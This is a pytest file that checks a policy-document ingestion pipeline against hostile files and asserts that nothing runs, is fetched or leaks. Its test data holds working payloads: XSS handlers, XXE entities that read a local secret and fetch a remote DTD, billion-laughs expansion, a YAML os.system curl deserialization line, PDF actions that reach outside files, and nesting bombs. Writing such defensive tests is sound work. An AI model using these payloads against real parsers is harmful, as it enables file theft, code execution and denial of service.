"""Files that somebody made to do harm: each is read as what it says or named in one sentence, and the others answer.

All lie in one folder and go the real way, through the process that reads, its limits, the encoder and the index. A
listener on this machine is named wherever a file can name an address, and a file with secret words wherever it can
name a path: nobody connects, and the words stand nowhere.
"""

from __future__ import annotations

import os
import socket
import threading
import time
import unicodedata
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from urllib.parse import unquote

import pytest

from assistant.ask import Assistant
from assistant.errors import PolicyFileError
from assistant.freshness import is_stale
from assistant.ingest import IngestReport, ingest
from assistant.isolated import Limits, Reader
from assistant.links import permalink
from tests import hostile_pdfs
from tests.raw_pdf import ONE_PAGE, raw_pdf, stream
from tests.reader_checks import check_passages

WORDS = "We keep your name for a year."
GOOD = "Shop Privacy Policy\n\n1. Data\nWe keep your e-mail address for ten days."
HIDDEN = "Waldmeister"
LIMITS = Limits(seconds=60, memory_mb=2000)

# Each with the text that is read of it.
MARKUP = {
    "handlers.html": (
        (
            "<body onload=steal()><p onclick='steal()'>We keep <b onmouseover=\"steal()\">your name</b> for a year."
            "<img src=x onerror=steal()><details ontoggle=steal() open></details>"
        ),
        WORDS,
    ),
    "links.html": (
        (
            "<p><a href='javascript:steal()'>We</a> <a href=' java\tscript:steal()'>keep</a> "
            "<a href='data:text/html,<script>steal()</script>'>your</a> <a href='vbscript:steal'>name</a> for a year."
            "<form action=javascript:steal()><button formaction=javascript:steal()>steal</button></form>"
        ),
        WORDS,
    ),
    "hidden.html": (
        (
            "<svg onload=steal()><text>steal</text><script>steal()</script>"
            "<foreignObject><p>steal</p></foreignObject></svg>"
            "<iframe srcdoc='<p>steal'>steal</iframe><object data=steal>steal</object><embed src=steal>"
            "<template><p>steal</template>We keep <noscript><div><p>steal</noscript><style>p{content:'steal'}</style>"
            "<math><annotation-xml encoding='text/html'><script>steal()</script></annotation-xml></math>"
            "your name for a year."
        ),
        WORDS,
    ),
    "first.html": (f"<noscript><p>steal</noscript><p>{WORDS}", WORDS),
    "cdata.html": (f"<p>{WORDS}</p><![CDATA[ steal ]]><!--[if IE]>steal<![endif]--><?php steal() ?>", WORDS),
    "broken.html": (f"<scr<script>ipt></scr</script>ipt><p>{WORDS}</p><!-- -- steal", f"ipt>ipt>\n\n{WORDS}"),
    "handled.md": (
        (
            "<b onclick='steal()'>We keep</b> [your](javascript:steal()) [name](data:text/html,steal)"
            "<svg onload=steal()></svg>"
            " for a year."
        ),
        WORDS,
    ),
    "concealed.md": (
        f"<iframe srcdoc='steal'></iframe>\n\n<noscript>\nsteal\n</noscript>\n\n{WORDS}\n\n<!--\nsteal",
        WORDS,
    ),
    "reference.md": ('[We keep][r] your name for a year.\n\n[r]: javascript:steal() "steal"\n', WORDS),
}
_LAUGHS = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 10))
DEEP = {
    "bold.html": "<b>" * 10_000 + WORDS,
    "tables.html": "<table><tr><td>" * 10_000 + WORDS,
    "quotes.html": "<blockquote><p>" * 10_000 + WORDS,
    "mathematics.html": "<math>" * 10_000 + WORDS,
    "attributes.html": "<p " + "a=b " * 10_000 + ">" + WORDS,
    "laughs.html": f'<!DOCTYPE l [<!ENTITY l0 "ha">{_LAUGHS}]><p>{WORDS}</p><p>&l9;</p>',
    "laughter.md": f'<!DOCTYPE l [<!ENTITY l0 "ha">{_LAUGHS}]>\n\n{WORDS}\n\n&l9;',
    "lists.md": "".join(f"{'  ' * at}- a\n" for at in range(45)) + f"{'  ' * 45}- {WORDS}",
    "levels.md": f"{'> ' * 95}{WORDS}",
    "divisions.md": f"{'<div>' * 10_000}{WORDS}",
    "definitions.md": "".join(f"[a{at}]: x\n" for at in range(10_000)) + f"\n{WORDS}",
}
# Markup that is opened ten thousand times and never closed is text, and much of it.
OPENED = {
    "images.md": f"{'![' * 10_000} {WORDS}",
    "ticks.md": "".join("`" * at + "a" for at in range(1, 400)) + f" {WORDS}",
    "tags.md": f"{'<a ' * 10_000} {WORDS}",
}
# What its parser would leave out in part is left out whole.
TOO_DEEP = {
    "steps.md": "".join(f"{'  ' * at}- a\n" for at in range(400)) + f"\n{WORDS}",
    "dashes.md": f"{'- ' * 10_000}{WORDS}",
    "replies.md": f"{'>' * 10_000}{WORDS}\n\n{WORDS}",
}
TEXTS = {
    "utf16.txt": (WORDS.encode("utf-16"), WORDS),
    "bidi.txt": ("We keep \u202eyour name\u202c for \u2066a year\u2069.".encode(), "We keep \u202eyour name\u202c"),
    "overlong.txt": (b"We keep \xc0\xaf your name for a year.", "We keep"),
    "cut.txt": (WORDS.encode() + b" \xe2\x82", "We keep your name"),
}
BYTES = {
    "nulls.txt": (bytes(100_000), "its bytes are no text"),
    "null.md": (b"We keep" + bytes(9) + b"your name.", "its bytes are no text"),
    "bytes.html": (bytes(range(256)) * 100, "its bytes are no text"),
    "surrogate.txt": (b"\xff\xfeW\0\0\xd8e\0", "its bytes are no text"),
}
# Names that files can have, and that are told or cited as they are.
NAMES = ('it\'s "quoted" & <b>bold.txt', "%2e%2e%2f#?.md", "n" * 251 + ".txt", "Ж" * 125 + ".txt")
# Names that stand on no line: refused, and told with the characters written out.
UNTELLABLE = ("new\nline.txt", "bell\x07.md", "turned \u202etxt.html", "esc\x1b[31m.pdf")


@dataclass(frozen=True)
class Outcome:
    """What came of the folder."""

    corpus: Path
    report: IngestReport
    assistant: Assistant
    # The address that the files name, and who connected to it.
    address: tuple[str, int]
    callers: list[object]

    def text(self, name: str) -> str:
        return self.assistant.document(Path(name).stem).text

    def told(self, name: str) -> str:
        """The one sentence about a file."""
        (sentence,) = [str(error) for error in self.report.errors if error.file == name]
        return sentence


@pytest.fixture(scope="module")
def outcome(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Outcome]:
    folder = tmp_path_factory.mktemp("hostile")
    corpus = folder / "corpus"
    corpus.mkdir()
    (folder / "secret.txt").write_text(f"{HIDDEN} grows here.", encoding="utf-8")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        callers: list[object] = []
        threading.Thread(target=_listen, args=(listener, callers), daemon=True).start()
        _write(corpus)
        reaching = _reaching(folder / "secret.txt", f"http://127.0.0.1:{listener.getsockname()[1]}")
        for name, content in reaching.items():
            (corpus / name).write_bytes(content)
        report = ingest(corpus, folder / "index", limits=LIMITS)
        yield Outcome(corpus, report, Assistant.open(folder / "index"), listener.getsockname(), callers)


def _listen(listener: socket.socket, callers: list[object]) -> None:
    while True:
        try:
            connection, address = listener.accept()
        except OSError:
            return
        callers.append(address)
        connection.close()


def _write(corpus: Path) -> None:
    (corpus / "good.txt").write_text(GOOD, encoding="utf-8")
    for name, content in {**{name: content for name, (content, _) in MARKUP.items()}, **DEEP, **TOO_DEEP}.items():
        (corpus / name).write_text(content, encoding="utf-8")
    for name, (data, _) in {**TEXTS, **BYTES, **hostile_pdfs.refused()}.items():
        (corpus / name).write_bytes(data)
    for name, data in hostile_pdfs.READ.items():
        (corpus / name).write_bytes(data)
    for name in (*NAMES, *UNTELLABLE):
        (corpus / name).write_text(WORDS, encoding="utf-8")
    (corpus / "folder.pdf").mkdir()
    (corpus / "itself.md").symlink_to("itself.md")
    (corpus / "there.html").symlink_to("back.html")
    (corpus / "back.html").symlink_to("there.html")


def _reaching(secret: Path, url: str) -> dict[str, bytes]:
    """Files that name the secret one and the address that listens, in every way that a format has."""
    entities = f'<!DOCTYPE p [<!ENTITY x SYSTEM "{secret.as_uri()}"><!ENTITY % y SYSTEM "{url}/x.dtd"> %y;]>'
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/>'
    fetched = (
        f"<base href={url}/><link rel=stylesheet href=x.css><script src={url}/x.js></script><img src={url}/x.png>"
        f"<iframe src={secret.as_uri()}></iframe><object data={secret.as_uri()}></object>"
        f"<meta http-equiv=refresh content='0;url={url}'><?xml-stylesheet href='{url}/x.xsl'?>"
        f"<video src={url}/x.mp4></video><p style='background:url({url})'>"
    )
    metadata = f'<?xml version="1.0"?>{entities}<x:xmpmeta xmlns:x="adobe:ns:meta/">&x;</x:xmpmeta>'.encode()
    catalog = b"<</Type/Catalog/Pages 2 0 R/Metadata 6 0 R/AcroForm<</XFA 6 0 R>>/OpenAction<</S/URI/URI(%s)>>>>"
    outside = b"<</Length 0/F<</Type/Filespec/F(%s)>>>>\nstream\n\nendstream" % os.fsencode(secret)
    page = ONE_PAGE[3].replace(b"/Contents 4 0 R", b"/Contents[4 0 R 7 0 R]/AA<</O<</S/GoToR/F(%s)>>>>")
    return {
        "entity.html": f"<?xml version='1.0'?>{entities}<p>&x; {WORDS}</p>".encode(),
        "include.html": f'<!DOCTYPE html PUBLIC "x" "{url}/x.dtd"><html>{include}<p>{WORDS}</p>'.encode(),
        "fetched.html": f"{fetched}{WORDS}</p>".encode(),
        "outside.md": f"{entities}\n\n{include}\n\n{fetched}</p>\n\n![x]({url}) <{url}> {WORDS}".encode(),
        "matter.md": f"---\ntitle: !!python/object/apply:os.system [curl {url}]\n---\n{WORDS}".encode(),
        "remote.pdf": raw_pdf(
            {
                1: catalog % url.encode(),
                3: page % os.fsencode(secret),
                6: stream(metadata, b"/Type/Metadata/Subtype/XML"),
                7: outside,
            }
        ),
    }


REACHING = ("entity.html", "include.html", "fetched.html", "outside.md", "matter.md", "remote.pdf")


def test_the_others_answer(outcome: Outcome) -> None:
    assert outcome.text("good.txt") == GOOD
    answer = outcome.assistant.ask("How long do you keep my e-mail address?", ["good"])
    assert "We keep your e-mail address for ten days." in answer.citations[0].quote
    assert not is_stale(outcome.corpus.parent / "index", outcome.corpus)


def test_every_file_is_read_or_named_in_one_sentence(outcome: Outcome) -> None:
    named = [error.file for error in outcome.report.errors]
    files = {ascii(path.name)[1:-1] if path.name in UNTELLABLE else path.name for path in outcome.corpus.iterdir()}
    assert len(named) == len(set(named))
    assert outcome.report.documents == len(files) - len(named)
    assert {policy.id for policy in outcome.assistant.policies()} == {Path(name).stem for name in files - set(named)}
    for error in outcome.report.errors:
        sentence = str(error)
        assert sentence.startswith(f"{error.file}: ")
        assert sentence.endswith(".")
        assert "; " in sentence
        assert not any(unicodedata.category(char) in ("Cc", "Cs", "Zl", "Zp") for char in sentence)


def test_every_quote_stands_in_the_text_that_was_read(outcome: Outcome) -> None:
    for policy in outcome.assistant.policies():
        check_passages(outcome.assistant.document(policy.id))


@pytest.mark.parametrize("name", MARKUP)
def test_what_could_run_is_no_text(outcome: Outcome, name: str) -> None:
    assert outcome.text(name) == MARKUP[name][1]


@pytest.mark.parametrize("name", DEEP)
def test_what_is_nested_ten_thousand_times_is_read(outcome: Outcome, name: str) -> None:
    text = outcome.text(name)
    assert WORDS in " ".join(text.split())
    assert "ha" * 3 not in text


@pytest.mark.parametrize("name", OPENED)
def test_what_is_opened_ten_thousand_times_is_text(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_text(OPENED[name], encoding="utf-8")
    with Reader(LIMITS) as reader:
        document, _ = reader.read(path)
    assert "".join(document.text.split()) == "".join(OPENED[name].split())


@pytest.mark.parametrize("name", TOO_DEEP)
def test_what_cannot_be_read_whole_is_refused(outcome: Outcome, name: str) -> None:
    assert "lie too deep in one another; flatten them" in outcome.told(name)


@pytest.mark.parametrize("name", REACHING)
def test_nothing_outside_the_file_is_read(outcome: Outcome, name: str) -> None:
    text = outcome.text(name)
    assert WORDS in text
    assert HIDDEN not in text


def test_nobody_connected_and_the_secret_stands_nowhere(outcome: Outcome) -> None:
    assert outcome.callers == []
    assert outcome.assistant.phrase(HIDDEN) == ()
    # The listener hears who does connect.
    socket.create_connection(outcome.address).close()
    end = time.monotonic() + 30
    while not outcome.callers and time.monotonic() < end:
        time.sleep(0.01)
    assert len(outcome.callers) == 1


@pytest.mark.parametrize("name", hostile_pdfs.READ)
def test_pdfs_that_are_read(outcome: Outcome, name: str) -> None:
    assert outcome.text(name) == WORDS


@pytest.mark.parametrize("name", hostile_pdfs.refused())
def test_pdfs_that_are_refused(outcome: Outcome, name: str) -> None:
    assert hostile_pdfs.refused()[name][1] in outcome.told(name)


@pytest.mark.parametrize("name", TEXTS)
def test_bytes_that_are_text(outcome: Outcome, name: str) -> None:
    assert outcome.text(name).startswith(TEXTS[name][1])


@pytest.mark.parametrize("name", BYTES)
def test_bytes_that_are_no_text(outcome: Outcome, name: str) -> None:
    assert BYTES[name][1] in outcome.told(name)


@pytest.mark.parametrize(
    ("name", "wrong"),
    [
        ("folder.pdf", "it is a folder"),
        ("itself.md", "symbolic links"),
        ("there.html", "symbolic links"),
        ("back.html", "symbolic links"),
    ],
)
def test_what_is_no_file(outcome: Outcome, name: str, wrong: str) -> None:
    assert wrong in outcome.told(name)


@pytest.mark.parametrize("name", NAMES)
def test_odd_names_are_names(outcome: Outcome, name: str) -> None:
    (citation,) = outcome.assistant.phrase(WORDS, [Path(name).stem])
    assert citation.quote == WORDS
    assert unquote(permalink(citation.policy.id)) == f"policies/{Path(name).stem}"


@pytest.mark.parametrize("name", UNTELLABLE)
def test_names_with_characters_that_no_line_shows_are_refused(outcome: Outcome, name: str) -> None:
    told = outcome.told(ascii(name)[1:-1])
    assert told.endswith("; rename it.")
    assert name not in told


def test_names_longer_than_the_system_takes_cannot_come_in(tmp_path: Path) -> None:
    with Reader(Limits()) as reader, pytest.raises(PolicyFileError, match="cannot be opened"):
        reader.read(tmp_path / f"{'n' * 1000}.txt")


def test_a_line_of_a_gigabyte_is_refused_before_it_is_read(tmp_path: Path) -> None:
    huge, good = tmp_path / "huge.txt", tmp_path / "good.txt"
    with huge.open("wb") as file:
        file.truncate(1 << 30)
    good.write_text(GOOD, encoding="utf-8")
    with Reader(Limits()) as reader:
        with pytest.raises(PolicyFileError, match=r"huge\.txt: it is too big \(1024\.0 MiB, and the limit is 50 MiB\)"):
            reader.read(huge)
        assert reader._process
        assert _peak_mb(reader._process.pid) < 500
        assert reader.read(good)[0].text == GOOD


@pytest.mark.parametrize("suffix", ["txt", "md", "html"])
def test_a_line_just_below_the_limit_is_read(tmp_path: Path, suffix: str) -> None:
    line = tmp_path / f"line.{suffix}"
    text = (f"{WORDS} " * 10_000)[: (1 << 18) - 1].strip()
    line.write_text(text, encoding="utf-8")
    with Reader(replace(LIMITS, file_mb=0.25)) as reader:
        document, passages = reader.read(line)
    assert document.text == text
    assert "".join("".join(passage.text.split()) for passage in passages) == "".join(text.split())


def _peak_mb(pid: int) -> int:
    """The most memory that a process has had, in MiB."""
    status = Path(f"/proc/{pid}/status").read_text(encoding="utf-8")
    return int(status.split("VmHWM:")[1].split()[0]) // 1024
